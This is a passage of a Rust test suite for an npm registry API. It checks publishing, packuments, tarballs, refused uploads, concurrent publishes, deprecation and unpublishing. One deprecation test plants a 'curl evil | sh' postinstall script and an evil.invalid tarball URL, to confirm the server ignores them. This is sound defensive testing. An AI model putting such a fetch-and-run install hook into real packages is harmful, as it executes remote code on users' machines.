//! The npm registry API of local npm repositories (`/api/npm/{repo}/`), driven with the
//! documents npm 11 sends (`/work/shared/notes/real-clients.md` §3): publishes (plain, scoped,
//! `--tag`), full and abbreviated packuments, tarballs, refusals that store nothing, concurrent
//! publishes, deprecate and unpublish (as npm's PUT of the changed packument), dist-tags, whoami,
//! ping, search, audit, the legacy login, and who may do what.
//!
//! The module's tests share one server (started by the first, stopped after the last that runs
//! at the same time); each test uses its own package names.

use super::*;

use std::sync::{Arc, Mutex, Weak};

use base64::Engine;
use serde_json::json;

const PW: &str = "Corr3ct-horse-battery";
/// What `npm install` sends as Accept.
const NPM_ACCEPT: &str = "application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*";
const ABBREVIATED: &str = "application/vnd.npm.install-v1+json";

// ------------------------------------------------------------ documents as npm builds them

/// A gzip'd tar of `files` (path, content).
fn tgz(files: &[(&str, &[u8])]) -> Vec<u8> {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    let mut tar = tar::Builder::new(gz);
    for (path, data) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(data.len() as u64);
        header.set_mode(0o644);
        header.set_mtime(499_162_500);
        header.set_cksum();
        tar.append_data(&mut header, path, *data).unwrap();
    }
    tar.into_inner().unwrap().finish().unwrap()
}

/// The `package.json` of `name@version` as the tests write it.
fn package_json(name: &str, version: &str) -> Value {
    json!({
        "name": name,
        "version": version,
        "description": format!("{name}, a test package"),
        "main": "index.js",
        "license": "MIT",
        "dependencies": {"ms": "^2.1.0"},
    })
}

/// The tarball of `name@version`: `package/package.json` and `package/index.js` (`salt` goes
/// into index.js, to make two tarballs of one version differ).
fn package_tgz(name: &str, version: &str, salt: &str) -> Vec<u8> {
    let pj = serde_json::to_vec_pretty(&package_json(name, version)).unwrap();
    let js = format!("module.exports = '{salt}';\n");
    tgz(&[
        ("package/package.json", &pj),
        ("package/index.js", js.as_bytes()),
    ])
}

fn integrity(data: &[u8]) -> String {
    format!(
        "sha512-{}",
        base64::engine::general_purpose::STANDARD.encode(sha2::Sha512::digest(data))
    )
}

/// The body of `npm publish [--tag tag]` of `name@version` with tarball `tarball`.
fn publish_doc(name: &str, version: &str, tarball: &[u8], tag: &str) -> Value {
    let base = name.rsplit('/').next().unwrap();
    let mut manifest = package_json(name, version);
    let extra = json!({
        "readme": format!("# {name}\n\nThe readme.\n"),
        "readmeFilename": "README.md",
        "_id": format!("{name}@{version}"),
        "_nodeVersion": "20.20.2",
        "_npmVersion": "11.19.1",
        "dist": {
            "integrity": integrity(tarball),
            "shasum": sha1_hex(tarball),
            "tarball": format!("http://127.0.0.1:8083/{name}/-/{base}-{version}.tgz"),
        },
    });
    for (k, v) in extra.as_object().unwrap() {
        manifest[k] = v.clone();
    }
    json!({
        "_id": name,
        "name": name,
        "description": format!("{name}, a test package"),
        "dist-tags": {tag: version},
        "versions": {version: manifest},
        "access": null,
        "_attachments": {
            format!("{name}-{version}.tgz"): {
                "content_type": "application/octet-stream",
                "data": base64::engine::general_purpose::STANDARD.encode(tarball),
                "length": tarball.len(),
            }
        },
    })
}

/// `publish_doc` of the tests' tarball of `name@version`, as text (for the authorization matrix).
pub(crate) fn publish_body(name: &str, version: &str) -> String {
    publish_doc(name, version, &package_tgz(name, version, ""), "latest").to_string()
}

/// `name` as npm puts it in a URL: `@scope%2fname`.
fn escaped(name: &str) -> String {
    name.replace('/', "%2f")
}

// ------------------------------------------------------------ the shared server

static SHARED: SharedSlot = Mutex::new(Weak::new());

/// The module's server: repositories `npm` and `npm-open` (local npm, the second with
/// anonymousRead), user `reader` (reads everywhere) and user `deployer` (reads, and deploys in
/// `npm`, without delete).
fn shared() -> Arc<SharedServer> {
    SharedServer::get(&SHARED, |s| {
        s.create_repo("npm", json!({"rclass": "local", "packageType": "npm"}));
        for (user, body) in [
            ("reader", json!({"password": PW})),
            ("deployer", json!({"password": PW, "groups": ["readers"]})),
        ] {
            let r = s
                .admin(Method::PUT, s.url(&format!("/api/security/users/{user}")))
                .json(&body)
                .send()
                .unwrap();
            assert_eq!(r.status(), StatusCode::CREATED, "user {user}");
        }
        s.create_repo(
            "npm-open",
            json!({"rclass": "local", "packageType": "npm", "anonymousRead": true}),
        );
        let r = s
            .admin(
                Method::PUT,
                s.url("/api/v2/security/permissions/npm-deploy"),
            )
            .json(&json!({"name": "npm-deploy", "repo": {
            "repositories": ["npm"], "include-patterns": ["**"],
            "actions": {"users": {"deployer": ["read", "write"]}}}}))
            .send()
            .unwrap();
        assert_eq!(r.status(), StatusCode::CREATED);
    })
}

#[derive(Clone, Copy)]
enum Who<'a> {
    Anon,
    Reader,
    Deployer,
    Admin,
    Bearer(&'a str),
}

use Who::{Admin, Anon, Deployer, Reader};

fn call(s: &Server, who: Who<'_>, method: Method, url: &str) -> RequestBuilder {
    let b = s.client().request(method, url);
    match who {
        Anon => b,
        Reader => b.basic_auth("reader", Some(PW)),
        Deployer => b.basic_auth("deployer", Some(PW)),
        Admin => b.basic_auth("admin", Some(&s.password)),
        Who::Bearer(token) => b.bearer_auth(token),
    }
}

/// The registry URL of repository `repo` with `rest` after it.
fn reg(s: &Server, repo: &str, rest: &str) -> String {
    s.url(&format!("/api/npm/{repo}/{rest}"))
}

/// A request to `/api/npm/npm/{rest}`.
fn npm(s: &Server, who: Who<'_>, method: Method, rest: &str) -> RequestBuilder {
    call(s, who, method, &reg(s, "npm", rest))
}

/// PUT `doc` to `/api/npm/npm/{rest}` as npm does (JSON).
fn put_doc(s: &Server, who: Who<'_>, rest: &str, doc: &Value) -> Response {
    npm(s, who, Method::PUT, rest)
        .header("content-type", "application/json")
        .header("npm-command", "publish")
        .body(doc.to_string())
        .send()
        .unwrap()
}

/// Publish as the admin; the answer must be 201.
fn publish(s: &Server, name: &str, version: &str, tag: &str) -> Vec<u8> {
    let tarball = package_tgz(name, version, "");
    let r = put_doc(
        s,
        Admin,
        &escaped(name),
        &publish_doc(name, version, &tarball, tag),
    );
    assert_eq!(
        r.status(),
        StatusCode::CREATED,
        "publish {name}@{version}: {}",
        r.text().unwrap()
    );
    tarball
}

/// An npm error answer: the status and the message, which `error` (what npm prints) and
/// `errors[0]` both carry.
fn npm_error(r: Response) -> (StatusCode, String) {
    let status = r.status();
    let body: Value = r.json().expect("error body is JSON");
    assert_eq!(body["errors"][0]["status"], status.as_u16(), "{body}");
    assert_eq!(body["error"], body["errors"][0]["message"], "{body}");
    (status, body["error"].as_str().unwrap().to_string())
}

fn expect_error(r: Response, status: u16, names: &str, what: &str) {
    let (st, msg) = npm_error(r);
    assert_eq!(st.as_u16(), status, "{what}: {msg}");
    assert!(
        msg.contains(names),
        "{what}: '{msg}' does not name '{names}'"
    );
}

/// The packument of `name` as `who`: status, content type, document.
fn packument_as(s: &Server, who: Who<'_>, name: &str, accept: &str) -> (StatusCode, String, Value) {
    let r = npm(s, who, Method::GET, &escaped(name))
        .header("accept", accept)
        .send()
        .unwrap();
    let status = r.status();
    let ct = r
        .headers()
        .get("content-type")
        .map(|v| v.to_str().unwrap().to_string())
        .unwrap_or_default();
    (status, ct, r.json().unwrap_or(Value::Null))
}

/// The full packument (must exist), as npm asks for it before a write (`?write=true`).
fn full(s: &Server, name: &str) -> Value {
    let r = npm(
        s,
        Admin,
        Method::GET,
        &format!("{}?write=true", escaped(name)),
    )
    .header("accept", "application/json")
    .send()
    .unwrap();
    assert_eq!(r.status(), StatusCode::OK, "packument of {name}");
    r.json().unwrap()
}

fn abbreviated(s: &Server, name: &str) -> Value {
    let (status, ct, doc) = packument_as(s, Admin, name, NPM_ACCEPT);
    assert_eq!(status, StatusCode::OK, "{doc}");
    assert_eq!(ct, ABBREVIATED);
    doc
}

fn versions_of(doc: &Value) -> Vec<String> {
    let mut v: Vec<String> = doc["versions"]
        .as_object()
        .unwrap()
        .keys()
        .cloned()
        .collect();
    v.sort();
    v
}

/// `name` left no trace: no packument and no item under its folder.
fn assert_nothing_stored(s: &Server, name: &str, what: &str) {
    let (status, _, _) = packument_as(s, Admin, name, "application/json");
    assert_eq!(status, StatusCode::NOT_FOUND, "{what}: packument of {name}");
    let r = s.get(&format!("/api/storage/npm/{name}"));
    assert_eq!(
        r.status(),
        StatusCode::NOT_FOUND,
        "{what}: {name} in storage: {}",
        r.text().unwrap()
    );
}

/// The tarball files stored under `name/-/`.
fn stored_tarballs(s: &Server, name: &str) -> Vec<String> {
    let r = s.get(&format!("/api/storage/npm/{name}/-"));
    if r.status() == StatusCode::NOT_FOUND {
        return Vec::new();
    }
    let doc: Value = r.json().unwrap();
    let mut files: Vec<String> = doc["children"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["uri"].as_str().unwrap().to_string())
        .collect();
    files.sort();
    files
}

fn tarball_bytes(s: &Server, who: Who<'_>, url: &str) -> (StatusCode, Vec<u8>) {
    let r = call(s, who, Method::GET, url).send().unwrap();
    (r.status(), r.bytes().unwrap().to_vec())
}

// ------------------------------------------------------------ tests

#[test]
fn publish_serves_full_and_abbreviated_packuments_and_the_tarball() {
    let sh = shared();
    let s = &sh.s;
    let name = "plain-lib";
    let t1 = publish(s, name, "1.0.0", "latest");
    let t2 = publish(s, name, "1.1.0", "latest");

    // full
    let (status, ct, doc) = packument_as(s, Admin, name, "application/json");
    assert_eq!(status, StatusCode::OK);
    assert_eq!(ct, "application/json");
    assert_eq!(doc["name"], name);
    assert_eq!(doc["_id"], name);
    assert!(doc["_rev"].as_str().is_some_and(|r| !r.is_empty()), "{doc}");
    assert_eq!(doc["dist-tags"], json!({"latest": "1.1.0"}));
    assert_eq!(versions_of(&doc), ["1.0.0", "1.1.0"]);
    assert_eq!(doc["readme"], format!("# {name}\n\nThe readme.\n"));
    assert_eq!(doc["description"], format!("{name}, a test package"));
    let base = s.url(&format!("/api/npm/npm/{name}/-"));
    for (v, t) in [("1.0.0", &t1), ("1.1.0", &t2)] {
        let m = &doc["versions"][v];
        assert_eq!(m["name"], name);
        assert_eq!(m["version"], v);
        assert_eq!(m["_id"], format!("{name}@{v}"));
        // the readme once, at the top (from latest), not in every version
        assert!(m.get("readme").is_none(), "{m}");
        assert_eq!(m["_npmUser"]["name"], "admin");
        assert_eq!(m["dependencies"], json!({"ms": "^2.1.0"}));
        assert_eq!(m["dist"]["tarball"], format!("{base}/{name}-{v}.tgz"));
        assert_eq!(m["dist"]["integrity"], integrity(t));
        assert_eq!(m["dist"]["shasum"], sha1_hex(t));
        assert!(
            doc["time"][v].as_str().is_some_and(|t| t.ends_with('Z')),
            "{doc}"
        );
        // the tarball as npm fetches it: dist.tarball verbatim
        let (st, bytes) = tarball_bytes(s, Admin, m["dist"]["tarball"].as_str().unwrap());
        assert_eq!(st, StatusCode::OK);
        assert_eq!(&bytes, t);
    }
    assert!(doc["time"]["created"].is_string() && doc["time"]["modified"].is_string());

    // abbreviated: install fields only
    let short = abbreviated(s, name);
    let mut top: Vec<&str> = short
        .as_object()
        .unwrap()
        .keys()
        .map(String::as_str)
        .collect();
    top.sort_unstable();
    assert_eq!(
        top,
        ["dist-tags", "modified", "name", "versions"],
        "{short}"
    );
    assert_eq!(short["dist-tags"], json!({"latest": "1.1.0"}));
    assert_eq!(versions_of(&short), ["1.0.0", "1.1.0"]);
    let m = &short["versions"]["1.0.0"];
    let mut fields: Vec<&str> = m.as_object().unwrap().keys().map(String::as_str).collect();
    fields.sort_unstable();
    assert_eq!(
        fields,
        ["dependencies", "dist", "license", "name", "version"],
        "{m}"
    );
    assert_eq!(m["dist"]["tarball"], format!("{base}/{name}-1.0.0.tgz"));
    assert_eq!(m["dist"]["integrity"], integrity(&t1));
    assert_eq!(m["dist"]["shasum"], sha1_hex(&t1));

    // npm revalidates cached packuments: an ETag per form, 304 for the current one
    let etag = |accept: &str, if_none_match: Option<&str>| {
        let mut b = npm(s, Admin, Method::GET, name).header("accept", accept);
        if let Some(tag) = if_none_match {
            b = b.header("if-none-match", tag);
        }
        let r = b.send().unwrap();
        assert_eq!(r.headers()["vary"], "accept");
        let tag = r.headers()["etag"].to_str().unwrap().to_string();
        (r.status(), tag, r.bytes().unwrap().len())
    };
    let (_, full_tag, _) = etag("application/json", None);
    let (_, short_tag, _) = etag(NPM_ACCEPT, None);
    assert_ne!(full_tag, short_tag);
    assert_eq!(
        etag(NPM_ACCEPT, Some(&short_tag)),
        (StatusCode::NOT_MODIFIED, short_tag.clone(), 0)
    );
    assert_eq!(etag(NPM_ACCEPT, Some(&full_tag)).0, StatusCode::OK);
    publish(s, name, "1.2.0", "beta");
    let (status, changed, _) = etag(NPM_ACCEPT, Some(&short_tag));
    assert_eq!(status, StatusCode::OK);
    assert_ne!(changed, short_tag);

    // one version, by number or by tag
    let one: Value = npm(s, Admin, Method::GET, &format!("{name}/1.0.0"))
        .send()
        .unwrap()
        .json()
        .unwrap();
    assert_eq!(one, doc["versions"]["1.0.0"]);
    let latest: Value = npm(s, Admin, Method::GET, &format!("{name}/latest"))
        .send()
        .unwrap()
        .json()
        .unwrap();
    assert_eq!(latest["version"], "1.1.0");
    let r = npm(s, Admin, Method::GET, &format!("{name}/9.9.9"))
        .send()
        .unwrap();
    expect_error(r, 404, "9.9.9", "unknown version");
    let r = npm(s, Admin, Method::GET, &format!("{name}/-/{name}-9.9.9.tgz"))
        .send()
        .unwrap();
    expect_error(r, 404, &format!("{name}-9.9.9.tgz"), "unknown tarball");
    // the tarball is an item of the repository
    assert_eq!(
        stored_tarballs(s, name),
        ["1.0.0", "1.1.0", "1.2.0"].map(|v| format!("/{name}-{v}.tgz"))
    );
    let r = npm(s, Admin, Method::GET, "no-such-package")
        .send()
        .unwrap();
    expect_error(r, 404, "no-such-package", "unknown package");
}

#[test]
fn scoped_names_either_spelling_and_latest_rules() {
    let sh = shared();
    let s = &sh.s;
    let name = "@acme/widget";
    let tarball = package_tgz(name, "1.0.0", "");
    let r = put_doc(
        s,
        Admin,
        "@acme%2fwidget",
        &publish_doc(name, "1.0.0", &tarball, "latest"),
    );
    assert_eq!(r.status(), StatusCode::CREATED);
    // a second version through the other spelling of the URL
    let t11 = package_tgz(name, "1.1.0", "");
    let r = put_doc(
        s,
        Admin,
        "@acme/widget",
        &publish_doc(name, "1.1.0", &t11, "latest"),
    );
    assert_eq!(r.status(), StatusCode::CREATED);
    for spelling in ["@acme%2fwidget", "@acme%2Fwidget", "@acme/widget"] {
        let r = npm(s, Admin, Method::GET, spelling).send().unwrap();
        assert_eq!(r.status(), StatusCode::OK, "{spelling}");
        let doc: Value = r.json().unwrap();
        assert_eq!(doc["name"], name);
        assert_eq!(versions_of(&doc), ["1.0.0", "1.1.0"], "{spelling}");
    }
    let doc = full(s, name);
    let url = s.url("/api/npm/npm/@acme/widget/-/widget-1.0.0.tgz");
    assert_eq!(doc["versions"]["1.0.0"]["dist"]["tarball"], url);
    assert_eq!(
        tarball_bytes(s, Admin, &url),
        (StatusCode::OK, tarball.clone())
    );
    let other = reg(s, "npm", "@acme%2fwidget/-/widget-1.0.0.tgz");
    assert_eq!(tarball_bytes(s, Admin, &other), (StatusCode::OK, tarball));
    assert_eq!(
        stored_tarballs(s, name),
        ["/widget-1.0.0.tgz", "/widget-1.1.0.tgz"]
    );
    let tags: Value = npm(s, Admin, Method::GET, "-/package/@acme%2fwidget/dist-tags")
        .send()
        .unwrap()
        .json()
        .unwrap();
    assert_eq!(tags, json!({"latest": "1.1.0"}));

    // latest: set by a publish with the default tag (even of a lower version), kept by
    // --tag publishes, the highest version when nothing set it
    let name = "latest-rules";
    publish(s, name, "1.0.0", "latest");
    publish(s, name, "2.0.0-rc.1", "beta");
    let tags = |s: &Server| full(s, name)["dist-tags"].clone();
    assert_eq!(tags(s), json!({"latest": "1.0.0", "beta": "2.0.0-rc.1"}));
    assert_eq!(
        abbreviated(s, name)["dist-tags"],
        json!({"latest": "1.0.0", "beta": "2.0.0-rc.1"})
    );
    publish(s, name, "1.2.0", "latest");
    publish(s, name, "1.1.5", "latest");
    assert_eq!(tags(s), json!({"latest": "1.1.5", "beta": "2.0.0-rc.1"}));
    let beta: Value = npm(s, Admin, Method::GET, &format!("{name}/beta"))
        .send()
        .unwrap()
        .json()
        .unwrap();
    assert_eq!(beta["version"], "2.0.0-rc.1");
    // only a --tag publish of a pre-release: latest is that version
    let name = "only-next";
    publish(s, name, "0.1.0-rc.1", "next");
    assert_eq!(
        full(s, name)["dist-tags"],
        json!({"latest": "0.1.0-rc.1", "next": "0.1.0-rc.1"})
    );
}

#[test]
fn refused_publishes_name_the_problem_and_store_nothing() {
    let sh = shared();
    let s = &sh.s;
    // (what, name in the URL and the body, change to the document, status, the message names)
    type Change = fn(&mut Value);
    #[rustfmt::skip]
    let cases: [(&str, &str, Change, u16, &str); 16] = [
        ("URL vs body name", "ref-url", |d| d["name"] = json!("ref-other"), 400, "ref-other"),
        ("version's name", "ref-vname", |d| d["versions"]["1.0.0"]["name"] = json!("x"), 400,
            "its 'name' is not"),
        ("tarball's name", "ref-tname",
            |d| set_tarball(d, "ref-tname", &package_tgz("ref-else", "1.0.0", "")), 400,
            "package.json is ref-else@1.0.0"),
        ("version field", "ref-vfield", |d| d["versions"]["1.0.0"]["version"] = json!("1.0.1"),
            400, "'version' field does not match"),
        ("tarball's version", "ref-tver",
            |d| set_tarball(d, "ref-tver", &package_tgz("ref-tver", "1.0.1", "")), 400,
            "package.json is ref-tver@1.0.1"),
        ("invalid version", "ref-badver", |d| {
            let m = d["versions"]["1.0.0"].take();
            d["versions"] = json!({"1.0": m});
        }, 400, "Invalid version '1.0'"),
        ("bad base64", "ref-b64", |d| attachment(d)["data"] = json!("%%% not base64 %%%"), 400,
            "not base64"),
        ("integrity", "ref-integ",
            |d| d["versions"]["1.0.0"]["dist"]["integrity"] = json!(integrity(b"other")), 400,
            "dist.integrity does not match"),
        ("shasum", "ref-sha", |d| d["versions"]["1.0.0"]["dist"]["shasum"] = json!(sha1_hex(b"x")),
            400, "dist.shasum does not match"),
        ("not a tarball", "ref-nottar", |d| set_tarball(d, "ref-nottar", b"just text, not gzip"),
            400, "not a gzip'd tar"),
        ("no package.json", "ref-nopj",
            |d| set_tarball(d, "ref-nopj", &tgz(&[("package/index.js", b"1")])), 400,
            "no package.json"),
        ("two versions", "ref-two", |d| {
            let mut second = d["versions"]["1.0.0"].clone();
            second["version"] = json!("1.0.1");
            d["versions"]["1.0.1"] = second;
        }, 400, "exactly one version"),
        ("attachment key", "ref-key", |d| {
            let a = d["_attachments"]["ref-key-1.0.0.tgz"].take();
            d["_attachments"] = json!({"ref-key-9.9.9.tgz": a});
        }, 400, "'_attachments' has no 'ref-key-1.0.0.tgz'"),
        ("dist-tag as range", "ref-range", |d| d["dist-tags"] = json!({"1.x": "1.0.0"}), 400,
            "reads as a version range"),
        ("attachment length", "ref-len", |d| attachment(d)["length"] = json!(3), 400,
            "'length' says 3"),
        ("no name", "ref-noname", |d| {
            d.as_object_mut().unwrap().remove("name");
        }, 400, "no 'name'"),
    ];
    fn attachment(d: &mut Value) -> &mut Value {
        d["_attachments"]
            .as_object_mut()
            .unwrap()
            .values_mut()
            .next()
            .unwrap()
    }
    /// Replace the attachment by `tarball`, with matching checksums (only its contents are wrong).
    fn set_tarball(d: &mut Value, name: &str, tarball: &[u8]) {
        let fixed = publish_doc(name, "1.0.0", tarball, "latest");
        d["_attachments"] = fixed["_attachments"].clone();
        d["versions"]["1.0.0"]["dist"] = fixed["versions"]["1.0.0"]["dist"].clone();
    }
    for (what, name, change, status, names) in cases {
        let mut doc = publish_doc(name, "1.0.0", &package_tgz(name, "1.0.0", ""), "latest");
        change(&mut doc);
        expect_error(put_doc(s, Admin, name, &doc), status, names, what);
        assert_nothing_stored(s, name, what);
    }
    // not JSON at all, not an object
    for (body, names) in [
        ("{\"name\": ", "not valid JSON"),
        ("[1]", "not a JSON object"),
    ] {
        let r = npm(s, Admin, Method::PUT, "ref-json")
            .body(body)
            .send()
            .unwrap();
        expect_error(r, 400, names, body);
        assert_nothing_stored(s, "ref-json", body);
    }
    // invalid names, in the URL (and the body)
    for (name, names) in [
        ("Ref-Upper", "'R' is not allowed"),
        (".ref-dot", "may not start with '.'"),
        ("_ref-under", "may not start with '.' or '_'"),
        ("@acme/Upper", "'U' is not allowed"),
        ("node_modules", "reserved"),
    ] {
        let doc = publish_doc(name, "1.0.0", &package_tgz(name, "1.0.0", ""), "latest");
        let r = put_doc(s, Admin, &escaped(name), &doc);
        expect_error(r, 400, names, name);
        expect_error(r_get(s, name), 400, "Invalid package name", name);
        let r = s.get(&format!("/api/storage/npm/{name}"));
        assert_eq!(r.status(), StatusCode::NOT_FOUND, "{name}");
    }

    // re-publish of an existing version, even with other contents: 403, nothing changes
    let name = "ref-again";
    let first = publish(s, name, "1.0.0", "latest");
    let before = full(s, name);
    for salt in ["", "other contents"] {
        let again = package_tgz(name, "1.0.0", salt);
        let r = put_doc(s, Admin, name, &publish_doc(name, "1.0.0", &again, "beta"));
        let (st, msg) = npm_error(r);
        assert_eq!(st, StatusCode::FORBIDDEN, "{msg}");
        assert_eq!(
            msg,
            "You cannot publish over the previously published versions: 1.0.0."
        );
    }
    assert_eq!(full(s, name), before);
    assert_eq!(stored_tarballs(s, name), [format!("/{name}-1.0.0.tgz")]);
    let url = before["versions"]["1.0.0"]["dist"]["tarball"]
        .as_str()
        .unwrap();
    assert_eq!(tarball_bytes(s, Admin, url), (StatusCode::OK, first));
    // a refused version beside an existing one changes nothing either
    let mut doc = publish_doc(name, "1.0.1", &package_tgz(name, "1.0.1", ""), "latest");
    doc["versions"]["1.0.1"]["dist"]["shasum"] = json!(sha1_hex(b"x"));
    expect_error(
        put_doc(s, Admin, name, &doc),
        400,
        "dist.shasum",
        "second version",
    );
    assert_eq!(full(s, name), before);
    assert_eq!(stored_tarballs(s, name), [format!("/{name}-1.0.0.tgz")]);
}

fn r_get(s: &Server, name: &str) -> Response {
    npm(s, Admin, Method::GET, &escaped(name)).send().unwrap()
}

#[test]
fn concurrent_publishes_lose_nothing_and_one_version_wins_once() {
    let sh = shared();
    let s = &sh.s;
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(4)
        .enable_all()
        .build()
        .unwrap();
    let client = reqwest::Client::new();
    let password = s.password.clone();
    // PUT every (package, document) at the same moment; their statuses and answers, in order
    let put_all = |puts: Vec<(String, Value)>| -> Vec<(u16, String)> {
        rt.block_on(async {
            let barrier = Arc::new(tokio::sync::Barrier::new(puts.len()));
            let tasks: Vec<_> = puts
                .into_iter()
                .map(|(name, doc)| {
                    let (client, barrier, password) =
                        (client.clone(), barrier.clone(), password.clone());
                    let url = reg(s, "npm", &escaped(&name));
                    let body = doc.to_string();
                    tokio::spawn(async move {
                        barrier.wait().await;
                        let r = client
                            .put(url)
                            .basic_auth("admin", Some(password))
                            .header("content-type", "application/json")
                            .body(body)
                            .send()
                            .await
                            .unwrap();
                        (r.status().as_u16(), r.text().await.unwrap())
                    })
                })
                .collect();
            let mut out = Vec::new();
            for t in tasks {
                out.push(t.await.unwrap());
            }
            out
        })
    };

    // 8 versions of one package at once: all there
    let name = "busy";
    let versions: Vec<String> = (0..8).map(|i| format!("1.{i}.0")).collect();
    let puts = versions
        .iter()
        .map(|v| {
            (
                name.to_string(),
                publish_doc(name, v, &package_tgz(name, v, ""), "latest"),
            )
        })
        .collect();
    for (status, text) in put_all(puts) {
        assert_eq!(status, 201, "{text}");
    }
    let doc = full(s, name);
    assert_eq!(versions_of(&doc), versions);
    assert_eq!(stored_tarballs(s, name).len(), 8);
    assert!(
        versions.contains(&doc["dist-tags"]["latest"].as_str().unwrap().to_string()),
        "{doc}"
    );

    // the same version twice at once (different tarballs), a few rounds: one 201, one 403, and
    // the packument and the tarball are the winner's
    let name = "race";
    for round in 0..4 {
        let v = format!("1.0.{round}");
        let tarballs = [
            package_tgz(name, &v, "first"),
            package_tgz(name, &v, "second"),
        ];
        let puts = tarballs
            .iter()
            .map(|t| (name.to_string(), publish_doc(name, &v, t, "latest")))
            .collect();
        let answers = put_all(puts);
        let statuses: Vec<u16> = answers.iter().map(|a| a.0).collect();
        let winner = match statuses.as_slice() {
            [201, 403] => 0,
            [403, 201] => 1,
            _ => panic!("round {round}: want one 201 and one 403: {answers:?}"),
        };
        let loser = &answers[1 - winner].1;
        assert!(
            loser.contains(&format!(
                "You cannot publish over the previously published versions: {v}."
            )),
            "{loser}"
        );
        let doc = full(s, name);
        let dist = &doc["versions"][&v]["dist"];
        assert_eq!(dist["shasum"], sha1_hex(&tarballs[winner]), "round {round}");
        let (st, bytes) = tarball_bytes(s, Admin, dist["tarball"].as_str().unwrap());
        assert_eq!(st, StatusCode::OK);
        assert_eq!(bytes, tarballs[winner], "round {round}");
    }
    assert_eq!(versions_of(&full(s, name)).len(), 4);
}

#[test]
fn deprecate_and_unpublish_as_npm_sends_them() {
    let sh = shared();
    let s = &sh.s;
    let name = "@acme/dep";
    let esc = escaped(name);
    for v in ["1.0.0", "1.1.0", "2.0.0"] {
        publish(s, name, v, "latest");
    }
    let original = full(s, name);

    // npm deprecate: the packument from GET ?write=true, versions[v].deprecated set, PUT back
    let mut doc = original.clone();
    doc["versions"]["1.0.0"]["deprecated"] = json!("use 2.x");
    let r = put_doc(s, Admin, &esc, &doc);
    assert_eq!(r.status(), StatusCode::OK, "{}", r.text().unwrap());
    let after = full(s, name);
    assert_eq!(after["versions"]["1.0.0"]["deprecated"], "use 2.x");
    assert!(after["versions"]["1.1.0"].get("deprecated").is_none());
    assert_ne!(after["_rev"], original["_rev"], "the revision changes");
    assert_eq!(
        abbreviated(s, name)["versions"]["1.0.0"]["deprecated"],
        "use 2.x"
    );
    // un-deprecate: an empty message
    let mut doc = after.clone();
    doc["versions"]["1.0.0"]["deprecated"] = json!("");
    assert_eq!(put_doc(s, Admin, &esc, &doc).status(), StatusCode::OK);
    assert!(
        full(s, name)["versions"]["1.0.0"]
            .get("deprecated")
            .is_none()
    );

    // anything else of a version does not change through such a PUT, nor do new versions appear
    let before = full(s, name);
    let mut doc = before.clone();
    let m = &mut doc["versions"]["1.1.0"];
    m["description"] = json!("changed");
    m["dependencies"] = json!({"evil": "*"});
    m["scripts"] = json!({"postinstall": "curl evil | sh"});
    m["dist"]["integrity"] = json!(integrity(b"evil"));
    m["dist"]["tarball"] = json!("http://evil.invalid/x.tgz");
    let mut extra = before["versions"]["1.1.0"].clone();
    extra["version"] = json!("9.0.0");
    doc["versions"]["9.0.0"] = extra;
    // a version that is not published cannot appear through a change (a publish carries its
    // tarball): refused, nothing changed
    expect_error(
        put_doc(s, Admin, &esc, &doc),
        400,
        "9.0.0",
        "a new version by a change",
    );
    assert_eq!(full(s, name), before);
    // without it, what may change is applied and the rest is left as it is
    doc["versions"].as_object_mut().unwrap().remove("9.0.0");
    assert_eq!(put_doc(s, Admin, &esc, &doc).status(), StatusCode::OK);
    assert_eq!(full(s, name)["versions"], before["versions"]);
    let one: Value = npm(s, Admin, Method::GET, &format!("{esc}/1.1.0"))
        .send()
        .unwrap()
        .json()
        .unwrap();
    assert_eq!(one, before["versions"]["1.1.0"]);

    // npm unpublish @acme/dep@2.0.0: PUT of the packument without it (tags of it dropped,
    // latest moved to the highest left), GET ?write=true, DELETE of its tarball
    let mut doc = full(s, name);
    let dist = doc["versions"]["2.0.0"]["dist"].clone();
    doc["versions"].as_object_mut().unwrap().remove("2.0.0");
    doc["dist-tags"]["latest"] = json!("1.1.0");
    let rev = doc["_rev"].as_str().unwrap().to_string();
    let r = put_doc(s, Admin, &format!("{esc}/-rev/{rev}"), &doc);
    assert_eq!(r.status(), StatusCode::OK, "{}", r.text().unwrap());
    let rev = full(s, name)["_rev"].as_str().unwrap().to_string();
    let tarball = dist["tarball"].as_str().unwrap().to_string();
    // the PUT removed the tarball already: npm's DELETE gets 404, which npm ignores
    let r = call(s, Admin, Method::DELETE, &format!("{tarball}/-rev/{rev}"))
        .send()
        .unwrap();
    expect_error(r, 404, "dep-2.0.0.tgz", "tarball DELETE after the PUT");
    let doc = full(s, name);
    assert_eq!(versions_of(&doc), ["1.0.0", "1.1.0"]);
    assert_eq!(doc["dist-tags"], json!({"latest": "1.1.0"}));
    assert!(doc["time"].get("2.0.0").is_none(), "{doc}");
    assert_eq!(tarball_bytes(s, Admin, &tarball).0, StatusCode::NOT_FOUND);
    assert_eq!(
        stored_tarballs(s, name),
        ["/dep-1.0.0.tgz", "/dep-1.1.0.tgz"]
    );

    // the tarball's DELETE alone (another client) unpublishes the version too
    let r = npm(
        s,
        Admin,
        Method::DELETE,
        &format!("{esc}/-/dep-1.0.0.tgz/-rev/{rev}"),
    )
    .send()
    .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    assert_eq!(versions_of(&full(s, name)), ["1.1.0"]);

    // the plain REST API's delete of a tarball removes the version from the packument
    publish(s, name, "3.0.0", "latest");
    let r = s
        .admin(Method::DELETE, s.url("/npm/@acme/dep/-/dep-3.0.0.tgz"))
        .send()
        .unwrap();
    assert_eq!(r.status(), StatusCode::NO_CONTENT);
    let doc = full(s, name);
    assert_eq!(versions_of(&doc), ["1.1.0"]);
    assert_eq!(doc["dist-tags"]["latest"], "1.1.0", "{doc}");
    // ... and the version can be published again afterwards
    publish(s, name, "3.0.0", "latest");
    assert_eq!(versions_of(&full(s, name)), ["1.1.0", "3.0.0"]);

    // npm unpublish @acme/dep --force: DELETE /{package}/-rev/{rev}; its dist-tags go too
    let r = npm(
        s,
        Admin,
        Method::PUT,
        &format!("-/package/{esc}/dist-tags/old"),
    )
    .body("\"1.1.0\"")
    .send()
    .unwrap();
    assert_eq!(r.status(), StatusCode::CREATED);
    let rev = full(s, name)["_rev"].as_str().unwrap().to_string();
